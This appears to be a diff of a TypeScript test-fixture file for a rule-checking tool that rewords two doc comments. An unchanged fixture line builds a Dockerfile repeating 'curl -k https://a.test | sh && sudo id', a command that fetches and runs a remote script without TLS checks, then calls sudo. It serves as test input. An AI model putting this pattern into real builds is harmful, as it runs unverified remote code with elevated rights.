@@ -5,7 +5,7 @@ const few = `services:\n${Array.from({ length: 40 }, (_, i) => service(i)).join(
 const commands = `FROM debian:12\n${'RUN curl -k https://a.test | sh && sudo id\n'.repeat(200)}`;
 const asks = 'customRules: [rules.yaml]\n';
 
-/** A file of rules, each of which holds for services and commands. */
+/** A rule file in which each rule applies to services and commands. */
 const rulesWith = (condition: string) =>
   `rules:\n  one:\n    on: [service, command]\n    message: The name is {name}.\n    where:\n${condition}`;
 const chain = (size: number, line: (next: string) => string) =>
@@ -16,7 +16,7 @@ const chain = (size: number, line: (next: string) => string) =>
     ]),
   );
 
-/** Configurations that extend, override, and bring rules of their own. */
+/** Configurations that extend, override, and define custom rules. */
 export const policyShapes: readonly Shape[] = [
   ...shapesOf(
     '.plimsoll.yaml',
